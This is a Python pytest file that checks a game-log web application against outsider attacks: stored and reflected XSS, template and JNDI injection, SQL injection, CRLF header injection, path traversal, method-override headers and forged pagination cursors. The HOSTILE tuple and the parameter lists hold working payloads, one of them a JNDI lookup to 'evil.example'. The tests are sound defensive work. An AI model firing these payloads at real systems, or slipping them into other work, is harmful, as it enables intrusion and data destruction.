"""What an outsider may try: names that are programs, headers in names, forged cursors, other methods."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import orjson
import pytest

from storage import Store

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style></title><svg/onload=alert(1)>",
    "{{7*7}}",
    "{% raw %}",
    "${jndi:ldap://evil.example/x}",
    "javascript:alert(1)",
    "x'; DROP TABLE logs;--",
    "%0d%0aSet-Cookie: a=b",
    "../../../etc/passwd",
)


class Page(HTMLParser):
    """The elements of a page, and the attributes that run something."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.running: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            leads = name in ("href", "src", "action", "formaction", "xlink:href")
            is_program = (value or "").strip().lower().startswith("javascript:")
            if name.startswith("on") or (leads and is_program):
                self.running.append(f"{tag} {name}={value}")
        if tag == "script" and "src" not in dict(attrs):
            self.running.append(tag)


@pytest.fixture
def hostile(store: Store, log: dict[str, Any]) -> list[int]:
    """The ids of games that were played by such people, and are full of such words."""
    del log["log_id"]
    ids = []
    for word in HOSTILE:
        text = orjson.dumps(log).replace(b'"Anna"', orjson.dumps(word))
        envelope = {"notes": word, "session": word, "location": word, "tags": [word]}
        receipt = store.put(orjson.dumps({**orjson.loads(text), **envelope}))
        assert receipt.status == "accepted", word
        assert receipt.id is not None
        ids.append(receipt.id)
    return ids


def test_names_that_are_programs_run_on_no_page(client: Any, hostile: list[int]) -> None:
    asked = [
        quote(phrase, safe="")
        for phrase in ("turns by player", "games by session", "turns by seat", *HOSTILE)
    ]
    pages = [
        "/",
        "/logs",
        *(f"/logs/{id}" for id in hostile),
        *(f"/logs?player={quote(word, safe='')}" for word in HOSTILE),
        *(f"/ask?q={phrase}" for phrase in asked),
        *(f"/api/v1/query?format=html&q={phrase}" for phrase in asked[:3]),
        *(f"/login?next={quote(word, safe='')}" for word in HOSTILE),
    ]
    for address in pages:
        answer = client.get(address)
        page = Page(answer.get_data(as_text=True))

        assert answer.status_code in (200, 404, 422), address
        assert page.running == [], address
        assert "img" not in page.tags, address
        assert b"alert(1)>" not in answer.data, address
        assert "unsafe" not in answer.headers["Content-Security-Policy"]


def test_names_come_back_as_they_are_in_data_that_no_browser_runs(
    client: Any, hostile: list[int]
) -> None:
    for id, word in zip(hostile, HOSTILE, strict=True):
        answer = client.get(f"/api/v1/logs/{id}")

        assert answer.json["players"][0] == word
        assert answer.content_type == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "attachment" in client.get(f"/api/v1/logs/{id}/raw").headers["Content-Disposition"]


@pytest.mark.parametrize("text", ["a\r\nX-Evil: 1", "a\nSet-Cookie: a=b", "a\u2028b", "a\x00b"])
def test_no_parameter_comes_back_as_a_header(client: Any, hostile: list[int], text: str) -> None:
    said = quote(text, safe="")
    for address in (
        f"/api/v1/logs?limit=1&player={said}",
        f"/api/v1/logs?limit=1&level={said}",
        f"/api/v1/logs/{said}",
        f"/api/v1/query?q={said}",
        f"/api/v1/dimensions/{said}/values",
        f"/login?next=/{said}",
        f"/{said}",
    ):
        answer = client.get(address, headers={"Accept": "text/html"})

        assert answer.status_code < 500, address
        assert "X-Evil" not in answer.headers
        assert "Set-Cookie" not in answer.headers
        assert all(value.isascii() and value.isprintable() for _, value in answer.headers)


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_no_header_makes_another_method_of_one(
    client: Any, hostile: list[int], name: str, store: Store
) -> None:
    client.get(f"/api/v1/logs/{hostile[0]}?_method=DELETE", headers={name: "DELETE"})
    posted = client.post(f"/api/v1/logs/{hostile[0]}", headers={name: "DELETE"})

    assert posted.status_code == 405
    assert len(store.logs()) == len(hostile)


@pytest.mark.parametrize("path", ["/api/v1/logs/1", "/api/v1/query?q=number+of+games"])
def test_if_none_match_takes_lists_and_weak_ones_and_no_other(
    client: Any, hostile: list[int], path: str
) -> None:
    """RFC 9110 §13.1.2: any of a list will do, compared weakly; a tag may hold a comma."""
    tag = client.get(path).headers["ETag"]

    def status(said: str) -> int:
        return int(client.get(path, headers={"If-None-Match": said}).status_code)

    for good in (tag, f"W/{tag}", f'"x", {tag}', f'{tag}, W/"y"', f'"a,b" , {tag}', "*"):
        assert status(good) == 304, good
    for bad in ('"x"', f'"{tag[1:-2]}"', tag.upper().replace("-", "_") + '"', "," * 900, '"' * 99):
        assert status(bad) == 200, bad


@pytest.mark.parametrize(
    "cursor",
    [
        "YWZ0ZXI6LTE",
        "'",
        "a" * 5000,
        "YWZ0ZXI6MSBPUiAx",
        "YWZ0ZXI6MTA=\n",
        "١",
        "%00",
        "e30",
        "null",
    ],
)
def test_a_forged_cursor_is_refused_by_every_list(
    client: Any, hostile: list[int], cursor: str
) -> None:
    for address in ("/api/v1/logs", "/api/v1/dimensions/player/values"):
        answer = client.get(address, query_string={"cursor": cursor, "limit": "1"})
        assert answer.status_code == 422, (address, answer.json)
